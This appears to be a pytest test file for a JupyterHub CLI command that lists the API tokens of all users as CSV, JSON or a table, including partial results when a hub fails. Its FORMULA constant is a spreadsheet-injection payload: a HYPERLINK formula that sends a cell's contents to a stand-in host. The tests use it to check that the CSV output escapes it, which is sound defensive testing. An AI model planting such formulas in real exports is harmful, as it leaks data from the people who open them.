"""`jhub token list --all` and the filters of tokens: on a real hub, and on one that is cut off in the middle."""

from __future__ import annotations

import csv
import io
import json
import signal
import sqlite3
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import pytest
from click.testing import CliRunner
from hub_api import Api
from loopback import Site, Visit, serving
from signalled import AtTerminal
from terminal import JHUB, Jhub

from jhub.cli.main import cli
from jhub.local import LocalHub

Fresh = Callable[[str], str]

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?x="&A1;"click")'
COLUMNS = ["user", "id", "kind", "note", "scopes", "created", "last used", "expires"]
NOWHERE = {"JUPYTERHUB_API_URL": "http://127.0.0.1:9", "JUPYTERHUB_API_TOKEN": "x"}


@pytest.fixture
def owners(api: Api, as_admin: Jhub, hub: LocalHub, fresh: Fresh) -> tuple[str, str]:
    """Create two users: the first has a token that never expires and one that expires, the second two old ones."""
    names = fresh("owner"), fresh("owner")
    as_admin.ok("user", "create", *names)
    tokens = (
        (names[0], {"note": FORMULA}),
        (names[0], {"note": "expires", "expires_in": 3600, "scopes": ["read:users!user", "read:servers!user"]}),
        (names[1], {"note": f"old of {names[1]}"}),
        (names[1], {"note": f"used of {names[1]}"}),
    )
    made = [api("POST", f"/users/{name}/tokens", json=body).json() for name, body in tokens]
    with closing(sqlite3.connect(hub.folder / "jupyterhub.sqlite", timeout=60)) as database, database:
        for token in made[2:]:
            database.execute("UPDATE api_tokens SET created = '2020-01-01' WHERE id = ?", (token["id"][1:],))
    assert Api(hub, made[3]["token"])("GET", "/user").status_code == 200, "a token that is in use"
    return names


def rows(text: str, users: tuple[str, ...]) -> list[dict[str, str]]:
    """Return the rows of CSV that are about these users."""
    return [row for row in csv.DictReader(io.StringIO(text)) if row["user"] in users]


def test_the_tokens_of_all_users_are_one_csv_for_a_spreadsheet(as_admin: Jhub, owners: tuple[str, str]) -> None:
    listed = as_admin("token", "list", "--all", "-o", "csv")
    assert (listed.code, listed.err) == (0, "")
    assert next(csv.reader(io.StringIO(listed.out))) == COLUMNS
    found = {row["note"]: row for row in rows(listed.out, owners)}
    assert len(found) == 4
    formula = found[f"'{FORMULA}"]
    assert (formula["user"], formula["kind"], formula["expires"]) == (owners[0], "api", "")
    expiring = found["expires"]
    assert expiring["expires"][10] == expiring["created"][10] == "T"
    assert {f"read:users!user={owners[0]}", f"read:servers!user={owners[0]}"} <= set(expiring["scopes"].split(" "))
    assert found[f"old of {owners[1]}"]["last used"] == ""
    assert found[f"used of {owners[1]}"]["last used"] != ""


def test_json_is_exact_and_has_the_kind(as_admin: Jhub, owners: tuple[str, str]) -> None:
    listed = json.loads(as_admin.ok("token", "list", "--all", "-o", "json", "--never-expires"))
    mine = [token for token in listed if token["user"] == owners[0]]
    assert [(token["note"], token["kind"], token["token"]) for token in mine] == [(FORMULA, "api", None)]
    assert all(token["expires_at"] is None for token in listed)
    assert json.loads(as_admin.ok("token", "list", "-u", owners[0], "-o", "json", "--never-expires")) == mine


def test_filters_apply_to_all_users_and_to_one(as_admin: Jhub, owners: tuple[str, str]) -> None:
    unused = ("--kind", "api", "--unused-for", "365d")
    everyone = rows(as_admin.ok("token", "list", "--all", "-o", "csv", *unused), owners)
    assert [row["note"] for row in everyone] == [f"old of {owners[1]}"]
    one = as_admin.ok("token", "list", "-u", owners[1], "-o", "name", *unused)
    assert one.split() == [everyone[0]["id"]]
    assert as_admin.ok("token", "list", "-u", owners[1], "--kind", "server", "-o", "name") == ""
    expired = as_admin("token", "list", "-u", owners[0], "--expired", "-o", "csv")
    assert (expired.code, len(expired.lines)) == (0, 1)
    assert "deletes expired tokens" in expired.err


def test_a_table_sorts_and_is_limited(as_admin: Jhub, owners: tuple[str, str]) -> None:
    table = as_admin.ok("token", "list", "--all", "--sort", "-user", "--columns", "user,note", "--unused-for", "365d")
    assert f"old of {owners[1]}" in table
    assert len(as_admin.ok("token", "list", "--all", "--limit", "1").splitlines()) == 2


def test_a_token_without_the_scopes_is_told_once_and_prints_nothing(as_robot: Jhub) -> None:
    refused = as_robot("token", "list", "--all", "-o", "csv")
    assert (refused.code, refused.out) == (4, "")
    assert refused.err.splitlines() == [
        "error: tokens of all users: the token in use lacks read:tokens",
        "hint: use a token with the scopes list:users and read:tokens, such as that of an administrator",
    ]


def test_users_whose_tokens_are_hidden_are_reported(
    as_admin: Jhub, api: Api, hub: LocalHub, owners: tuple[str, str], tmp_path: Path
) -> None:
    scopes = ["list:users", f"read:tokens!user={owners[0]}"]
    made = api("POST", f"/users/{hub.username}/tokens", json={"scopes": scopes, "expires_in": 3600}).json()
    narrow = Jhub(tmp_path, {**as_admin.env, "JUPYTERHUB_API_TOKEN": made["token"]})
    listed = narrow("token", "list", "--all", "-o", "csv")
    assert listed.code == 7
    assert {row["user"] for row in csv.DictReader(io.StringIO(listed.out))} == {owners[0]}
    assert f"error: tokens of {owners[1]}: " in listed.err
    assert listed.err.startswith(
        f"note: this is not the whole hub: the token has list:users, read:tokens!user={owners[0]}"
    )


def test_an_ordinary_user_cannot_list_the_tokens_of_all(as_ana: Jhub) -> None:
    refused = as_ana("token", "list", "--all", "-o", "json")
    assert (refused.code, refused.out) == (4, "")
    assert json.loads(refused.err)["error"] == "tokens of all users: the token in use lacks list:users"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--all", "-u", "ana"), "--all and -u cannot be used together"),
        (("--all", "-o", "name"), "use -o csv"),
        (("--never-expires", "--expired"), "cannot be used together"),
        (("--unused-for", "90"), "has no unit"),
        (("--kind", "oauth"), "oauth"),
    ],
)
def test_what_may_not_combine_is_wrong_usage(args: tuple[str, ...], message: str) -> None:
    result = CliRunner(env=NOWHERE).invoke(cli, ["token", "list", *args])
    assert result.exit_code != 0
    assert message in f"{result.output} {result.exception}"


@contextmanager
def hub_that_stops(at_third: Callable[[Visit], None], seconds: float = 0.0) -> Iterator[Site]:
    """Run a site with three users. It answers for ana after `seconds`, for bo after twice that, and for cy itself."""

    def answer(visit: Visit) -> None:
        path = visit.path.partition("?")[0].removeprefix("/hub/api")
        if path == "/user":
            visit.json({"name": "root", "scopes": ["list:users", "read:tokens"]})
        elif path == "/users":
            users = [{"name": name} for name in ("ana", "bo", "cy")]
            visit.json({"items": users, "_pagination": {"total": 3, "next": None}})
        elif path.startswith("/users/cy/"):
            at_third(visit)
        elif path.endswith("/tokens"):
            name = path.split("/")[2]
            visit.hold(seconds * len(name.replace("ana", "a")))
            visit.json({"api_tokens": [{"id": f"a{len(name)}", "user": name, "note": name}]})
        else:
            visit.json({"version": "6.1.1"})

    with serving(answer) as site:
        yield site


def command_at(site: Site, home: Path) -> Jhub:
    return Jhub(home, {"JUPYTERHUB_API_URL": site.root, "JUPYTERHUB_API_TOKEN": "SECRET"})


@pytest.mark.parametrize("output_format", ["csv", "json", "table"])
def test_a_hub_that_goes_away_leaves_a_list_that_is_called_incomplete(output_format: str, tmp_path: Path) -> None:
    with hub_that_stops(lambda visit: visit.page(503)) as site:
        listed = command_at(site, tmp_path)("token", "list", "--all", "-o", output_format)
    assert listed.code == 1
    assert "ana" in listed.out
    assert "bo" in listed.out
    assert "2 of 3 users were read" in listed.err
    if output_format == "json":
        assert [token["user"] for token in json.loads(listed.out)] == ["ana", "bo"]


@pytest.mark.parametrize("output_format", ["csv", "table"])
def test_ctrl_c_keeps_what_was_found(output_format: str, tmp_path: Path) -> None:
    with hub_that_stops(lambda visit: visit.hold(60), seconds=0.3) as site:
        jhub = command_at(site, tmp_path)
        shown = AtTerminal(jhub, [*JHUB, "token", "list", "--all", "-o", output_format])
        # A table waits for all users, with progress; CSV is printed at once.
        shown.read_until("2 of 3 users, 2 tokens" if output_format == "table" else "bo,a2")
        shown.send(signal.SIGINT)  # once: the next one would end the output, too
        assert shown.end() in (130, -signal.SIGINT)
    text = shown.text.rpartition("\x1b[K")[2]
    assert "ana" in text
    assert "the list is incomplete: 2 of 3 users were read" in text


def test_without_a_terminal_there_is_no_progress(tmp_path: Path) -> None:
    def answer(visit: Visit) -> None:
        visit.json({"api_tokens": []})

    with hub_that_stops(answer, seconds=0.3) as site:
        listed = command_at(site, tmp_path)("token", "list", "--all")
    assert (listed.code, listed.err) == (0, "")
    assert len(listed.lines) == 3
